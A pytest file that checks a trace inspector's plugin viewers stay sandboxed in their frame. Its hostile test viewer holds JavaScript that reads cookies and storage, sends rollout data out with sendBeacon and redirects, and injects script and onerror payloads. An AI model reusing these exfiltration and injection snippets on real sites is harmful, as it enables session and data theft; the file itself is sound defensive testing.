"""Views of one's own: the examples drawn in a browser, and one that tries to get out of its frame."""

from __future__ import annotations

import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from rollout_traces.errors import ConfigError
from rollout_traces.inspector.viewers import Viewer, installed_viewers
from tests.inspector.conftest import ARTIFACTS, ROOT, Served, Visit, box_of, environment

EXAMPLES = ROOT / "examples" / "viewers"
HOSTILE = """
export async function draw(root, rollout) {
  const tried = {
    fetch: () => fetch("ADDRESS/fetch"),
    ownServer: () => fetch("/session"),
    script: () => import("ADDRESS/script.js"),
    socket: () => new Promise((done, failed) => { const s = new WebSocket("ADDRESS/socket".replace("http", "ws")); s.onopen = done; s.onerror = failed; }),
    image: () => new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = "ADDRESS/image.png"; }),
    frame: () => new Promise((done, failed) => { const f = document.createElement("iframe"); f.src = "ADDRESS/frame"; root.append(f); setTimeout(failed, 500, "not seen"); }),
    parent: () => parent.document.title,
    token: () => parent.sessionStorage.length,
    storage: () => localStorage.length,
    cookie: () => document.cookie,
    top: () => { top.location.href = "ADDRESS/top"; },
    popup: () => { if (!open("ADDRESS/popup")) throw new Error("none"); },
    form: () => { const f = document.createElement("form"); f.action = "ADDRESS/form"; root.append(f); f.submit(); throw new Error("nothing seen"); },
    worker: () => new Promise((done, failed) => { const w = new Worker("ADDRESS/worker.js"); w.onerror = failed; }),
    handler: () => new Promise((done, failed) => { window.ran = done; root.insertAdjacentHTML("beforeend", "<img src=x onerror='ran()'>"); setTimeout(failed, 300, "did not run"); }),
  };
  const got = [];
  for (const [name, attempt] of Object.entries(tried)) {
    try { await attempt(); got.push(name); } catch (error) { /* refused */ }
  }
  navigator.sendBeacon("ADDRESS/beacon", JSON.stringify(rollout));
  root.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="ADDRESS/style.css">`);
  const told = document.createElement("p");
  told.textContent = `tried ${Object.keys(tried).length}, got: ${got.join(", ") || "nothing"}`;
  root.append(told);
  if (rollout.metadata.source === "shop") location.href = "ADDRESS/away?" + encodeURIComponent(JSON.stringify(rollout));
}
"""
PLUGIN = """
from pathlib import Path
from rollout_traces.inspector.viewers import Viewer

hostile = Viewer("hostile", lambda rollout: True, module=Path(__file__).with_name("hostile.js"))
markup = Viewer("markup", lambda rollout: True, html=lambda rollout: '<p>drawn</p><script>document.body.textContent = "ran"</script><img src=x onerror="document.body.textContent = 1">')
raises = Viewer("raises", lambda rollout: 1 / 0, html=str)
"""


class Listener:
    """A server of somebody else, and what it was asked."""

    def __init__(self) -> None:
        asked = self.asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_error(404)

            do_POST = do_GET

            def log_message(self, *said: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture(scope="module")
def stranger() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.server.shutdown()


@pytest.fixture(scope="module")
def games(tmp_path_factory: pytest.TempPathFactory, stranger: Listener) -> Iterator[Served]:
    """The project of the examples, where their viewers and some of a stranger are installed."""
    folder, packages = tmp_path_factory.mktemp("games"), tmp_path_factory.mktemp("packages")
    done = subprocess.run(
        [sys.executable, str(EXAMPLES / "log_games.py")],
        cwd=ROOT,
        env=environment(folder),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    (packages / "plugin.py").write_text(PLUGIN)
    (packages / "hostile.js").write_text(HOSTILE.replace("ADDRESS", stranger.address))
    points = (
        (EXAMPLES / "pyproject.toml").read_text().split('"rollout_traces.viewers"]\n')[1].split("\n\n")[0]
    )
    for name, listed in (
        ("rollout_viewers", points.replace('"', "")),
        ("plugin", "a = plugin:hostile\nb = plugin:markup\nc = plugin:raises\nd = plugin:none"),
    ):
        info = packages / f"{name}-0.1.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n")
        (info / "entry_points.txt").write_text(f"[rollout_traces.viewers]\n{listed}\n")
    served = Served(folder, PYTHONPATH=f"{EXAMPLES}:{packages}:{ROOT}")
    yield served
    served.stop()


class VisitOfViewers(Visit):
    """A visit whose frames may ask for what they like: `stranger` tells whether it got out."""

    def _requested(self, request: object) -> None:
        pass


@pytest.fixture
def visit(chromium: object, games: Served) -> Iterator[Visit]:
    page = VisitOfViewers(chromium, games.address)
    yield page
    page.close()


def opened(visit: Visit, viewer: str, group: int) -> object:
    """The body of a viewer's frame."""
    visit.open(project="games", tab="rollouts", step=1, group=group, sample=0)
    visit.page.locator(f"[data-testid='viewer']:text-is('{viewer}')").click()
    return visit.page.frame_locator("[data-testid='viewer-frame']").locator("body")


@pytest.mark.browser
class TestInTheFrame:
    def test_a_module_draws_the_positions_of_a_game(self, visit):
        body = opened(visit, "board", 0)
        expect(body.locator("svg")).to_have_count(4)
        expect(body).to_contain_text("reward 0.5")
        frame = visit.get("viewer-frame")
        expect(frame).not_to_have_js_property("offsetHeight", 240)  # as high as what is drawn
        assert box_of(frame)["height"] > 0
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        visit.page.screenshot(path=str(ARTIFACTS / "viewer-board.png"))

    def test_a_function_draws_the_steps_of_a_web_page(self, visit):
        body = opened(visit, "pages", 1)
        expect(body.locator("li")).to_have_count(4)
        expect(body).to_contain_text("<b>Add to basket</b>")
        visit.page.screenshot(path=str(ARTIFACTS / "viewer-pages.png"))

    def test_is_offered_where_it_takes_the_rollout_and_stays_in_the_address(self, visit):
        opened(visit, "board", 0)
        assert "viewer=board" in visit.page.url
        visit.page.keyboard.press("J")
        expect(visit.get("viewer").filter(has_text="pages")).to_be_visible()
        expect(visit.get("viewer").filter(has_text="board")).to_have_count(0)

    def test_says_what_cannot_be_loaded_and_what_raises(self, visit):
        opened(visit, "board", 0)
        expect(visit.get("viewer-problem").filter(has_text="plugin:none could not be loaded")).to_be_visible()
        expect(visit.get("viewer-problem").filter(has_text="takes raised ZeroDivisionError")).to_be_visible()

    def test_no_script_runs_in_what_a_function_gives(self, visit):
        body = opened(visit, "markup", 0)
        expect(body).to_contain_text("drawn")
        visit.page.wait_for_timeout(300)
        expect(body).to_have_text("drawn")


@pytest.mark.browser
class TestAHostileViewer:
    def test_reaches_neither_the_page_nor_the_network(self, visit, stranger):
        body = opened(visit, "hostile", 0)
        expect(body).to_contain_text("tried 15, got: nothing")
        visit.page.wait_for_timeout(500)
        assert stranger.asked == []
        assert visit.page.url.startswith(visit.address)
        assert len(visit.context.pages) == 1 + len(visit._before)

    def test_cannot_take_the_rollout_along_to_another_address(self, visit, stranger):
        opened(visit, "hostile", 1)
        visit.page.wait_for_timeout(1500)
        assert stranger.asked == []


def package(folder: Path, name: str, viewer: str, points: str) -> None:
    """A package with a viewer, installed in a folder."""
    code = f"from rollout_traces.inspector.viewers import Viewer\n{viewer}\n"
    (folder / f"{name}.py").write_text(code)
    info = folder / f"{name}-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text(f"[rollout_traces.viewers]\n{points}\n")


class TestInstalledViewers:
    def test_of_one_name_the_second_is_called_by_its_package_too(self, tmp_path, monkeypatch):
        for name in ("chess", "draughts"):
            viewer = "board = Viewer('board', lambda rollout: True, html=str)"
            package(tmp_path, f"{name}_viewer", viewer, f"board = {name}_viewer:board")
        monkeypatch.syspath_prepend(tmp_path)
        found = installed_viewers.__wrapped__()
        [second] = [viewer for name, viewer in found.items() if name.startswith("board of ")]
        assert (
            isinstance(found["board"], Viewer) and isinstance(second, Viewer) and second is not found["board"]
        )

    def test_one_that_fails_does_not_hide_another_of_its_name(self, tmp_path, monkeypatch):
        package(
            tmp_path, "good_viewer", "board = Viewer('board', bool, html=str)", "board = good_viewer:board"
        )
        package(tmp_path, "poor_viewer", "board = 1 / 0", "board = poor_viewer:board")
        monkeypatch.syspath_prepend(tmp_path)
        found = installed_viewers.__wrapped__()
        assert isinstance(found["board"], Viewer)
        assert "ZeroDivisionError" in str(found["board of poor_viewer:board"])


class TestAViewer:
    @pytest.mark.parametrize("given", [{}, {"html": str, "module": Path("x.js")}])
    def test_is_html_or_a_module(self, given):
        with pytest.raises(ConfigError, match="one of html and module"):
            Viewer("x", lambda rollout: True, **given)
